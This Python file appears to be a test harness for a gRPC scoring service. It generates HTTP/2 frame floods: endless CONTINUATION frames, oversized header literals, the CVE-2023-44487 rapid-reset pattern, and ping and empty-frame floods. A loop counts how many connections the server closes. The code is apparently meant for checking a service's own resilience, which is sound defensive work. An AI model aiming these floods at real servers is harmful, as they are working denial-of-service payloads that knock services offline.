# SPDX-License-Identifier: Apache-2.0
"""Floods of HTTP/2 frames for one connection after another. Each yields what is sent with
one call of sendall."""

import itertools
import time

import http2

SCORE_EVENTS = "/farcall.v1.ScoringService/ScoreEvents"
FRAME_BYTES = 16384
CANCEL = (8).to_bytes(4, "big")


def endless_headers():
    """R4 a: small headers in CONTINUATION frames, and never the last of them."""
    yield http2.frame(http2.HEADERS, 0, 1, b"")
    block = b"".join(http2.literal(b"x-%06d" % n, b"v" * 8) for n in range(900))
    while True:
        yield http2.frame(http2.CONTINUATION, 0, 1, block[:FRAME_BYTES])


def huge_literal():
    """R4 b: one header that is to have 1 GiB."""
    yield http2.frame(http2.HEADERS, 0, 1, b"\0" + http2.integer(1 << 30, 7))
    while True:
        yield http2.frame(http2.CONTINUATION, 0, 1, b"a" * FRAME_BYTES)


def bytes_one_by_one():
    """R4 c: one header of 1 MiB, a byte in each frame."""
    yield http2.frame(http2.HEADERS, 0, 1, b"\0" + http2.integer(1 << 20, 7))
    while True:
        yield http2.frame(http2.CONTINUATION, 0, 1, b"a") * 1000


def rapid_resets():
    """CVE-2023-44487: calls that are reset at once."""
    headers = http2.request(SCORE_EVENTS)
    stream = 1
    while True:
        calls = b""
        for _ in range(200):
            calls += http2.frame(http2.HEADERS, http2.END_HEADERS, stream, headers)
            calls += http2.frame(http2.RESET, 0, stream, CANCEL)
            stream += 2
        yield calls


def pings():
    while True:
        yield http2.frame(http2.PING, 0, 0, bytes(8)) * 1000


def empty_frames():
    yield http2.silent_streams(SCORE_EVENTS, 1)
    while True:
        yield http2.frame(http2.DATA, 0, 1, b"") * 1000


def with_header(name, value):
    """Calls with a header that gRPC 1.51 closes its connection for, or once did."""
    headers = http2.request(SCORE_EVENTS) + http2.literal(name, value)

    def pieces():
        for stream in itertools.count(1, 2):
            time.sleep(0.001)
            yield http2.frame(http2.HEADERS, http2.END_HEADERS | http2.END_STREAM, stream, headers)

    return pieces


def with_trailer(name, value):
    trailers = http2.literal(name, value)

    def pieces():
        for stream in itertools.count(1, 2):
            time.sleep(0.001)
            yield http2.frame(
                http2.HEADERS, http2.END_HEADERS, stream, http2.request(SCORE_EVENTS)
            ) + http2.frame(
                http2.HEADERS, http2.END_HEADERS | http2.END_STREAM, stream, trailers
            )

    return pieces


def headers_at_the_bound():
    """8 KiB as HTTP counts them, more as gRPC does."""
    many = b"".join(http2.literal(b"x-%02d" % n, b"v" * 125) for n in range(55))
    headers = http2.request(SCORE_EVENTS) + many
    for stream in itertools.count(1, 2):
        time.sleep(0.001)
        yield http2.frame(http2.HEADERS, http2.END_HEADERS | http2.END_STREAM, stream, headers)


def closed_connections(connect, pieces, seconds):
    """Floods one connection of `connect()` after another; how many the other side closed."""
    closed = 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        with connect() as connection:
            connection.settimeout(1)
            try:
                for piece in pieces():
                    connection.sendall(piece)
                    if time.monotonic() > end:
                        break
            except OSError:
                closed += 1
    return closed
